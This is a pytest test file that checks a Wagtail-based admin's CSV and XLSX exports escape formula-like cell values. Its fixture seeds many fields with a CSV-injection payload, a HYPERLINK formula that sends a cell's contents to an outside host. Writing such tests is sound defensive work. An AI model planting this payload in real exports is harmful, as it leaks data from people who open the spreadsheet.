"""No export of the admin holds a formula: Wagtail's own reports and lists, and ours."""

import csv
import io
from datetime import timedelta

import openpyxl
import pytest
from django.utils import timezone
from wagtail.admin.views.mixins import SpreadsheetExportMixin
from wagtail.contrib.redirects.models import Redirect
from wagtail.log_actions import log

from hub.desk.spreadsheets import FORMULA_STARTS
from hub.groups import EDITOR
from hub.models import User
from hub.workflows import workflows_create
from search.models import SynonymGroup
from tests.clusters.make import make_event, make_practice
from tests.home.make import make_home, make_section
from tests.home.office import Person
from tests.network.make import make_city, make_city_page, make_expert

from .addresses import addresses

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://example.org/?"&A2)'
SHOWS_IT = {
    "wagtailadmin_reports:aging_pages",
    "wagtailadmin_reports:locked_pages",
    "wagtailadmin_reports:site_history",
    "wagtailadmin_reports:workflow",
    "wagtailadmin_reports:workflow_tasks",
    "wagtailredirects:index",
    "wagtailsnippets_hub_network_city:list",
    "wagtailsnippets_hub_network_expert:list",
    "wagtailsnippets_hub_search_synonymgroup:list",
    "hub_listing_content:index",
    "hub_listing_events:index",
    "hub_reports:missing_texts",
}
"""Exports in which the text of this test stands. Others have nothing to tell of it."""


def exporting() -> dict[str, str]:
    """Addresses of all views that export, by their names if they have one; those of results alone
    are the same again."""
    return {
        address.name or address.route: f"/{address.route}"
        for address in addresses()
        if address.view_class
        and issubclass(address.view_class, SpreadsheetExportMixin)
        and "<" not in address.route
        and not address.route.endswith("results/")
    }


@pytest.fixture
def admin(client):
    """Whatever people can type into the site begins like a formula."""
    home = make_home()
    section = make_section(home, "events")
    workflows_create()
    event = make_event(section, title=FORMULA, live=False)
    event.save_revision()
    Person("ed", EDITOR).press("action-submit", event)
    locked = make_practice(title=FORMULA, locked=True, locked_at=timezone.now(), body=[])
    make_city_page(make_city("bonn", labels={"en": FORMULA}))
    make_expert(labels={"en": FORMULA})
    SynonymGroup.objects.create(words=f"{FORMULA}\nbus", language="en")
    Redirect.objects.create(old_path=FORMULA, redirect_link="https://example.org")
    root = User.objects.create_superuser("root@example.org", "secret", last_name=FORMULA)
    log(locked, "wagtail.edit", user=root)
    type(locked).objects.update(last_published_at=timezone.now() - timedelta(days=400))
    client.force_login(root)
    return client


def test_no_export_holds_a_formula(admin):
    found = exporting()
    assert set(found) >= SHOWS_IT
    shown = set()
    for name, address in found.items():
        stored = admin.get(address, {"export": "csv"})
        if stored.headers["Content-Type"] != "text/csv":
            continue
        cells = [cell for row in csv.reader(io.StringIO(b"".join(stored).decode())) for cell in row]
        assert [cell for cell in cells if cell.startswith(FORMULA_STARTS)] == [], name
        stored = admin.get(address, {"export": "xlsx"})
        sheet = openpyxl.load_workbook(io.BytesIO(b"".join(stored))).active
        kinds = {cell.data_type for row in sheet.iter_rows() for cell in row}
        assert "f" not in kinds, name
        if any(cell.startswith(f"'{FORMULA[:11]}") for cell in cells):
            shown.add(name)
    assert shown >= SHOWS_IT, SHOWS_IT - shown


class Amounts(SpreadsheetExportMixin):
    """An export of another app, with its own ways to write and a heading that somebody typed."""

    list_export = ["name", "balance"]
    export_headings = {"name": "=1+1"}
    custom_field_preprocess = {"name": {"csv": lambda name: f"+{name}", "xlsx": str}}

    def to_row_dict(self, item):
        return dict(zip(self.list_export, item, strict=True))


def test_heading_and_texts_that_a_view_makes_itself_are_no_formulas_and_numbers_stay():
    view = Amounts()
    stored = b"".join(view.stream_csv([("Ada", -5)])).decode()
    assert stored.splitlines() == ["'=1+1,balance", "'+Ada,-5"]
    output = io.BytesIO()
    view.write_xlsx([("=A1", -5)], output)
    rows = openpyxl.load_workbook(output).active.iter_rows()
    assert [[(cell.value, cell.data_type) for cell in row] for row in rows] == [
        [("'=1+1", "s"), ("balance", "s")],
        [("=A1", "s"), (-5, "n")],
    ]
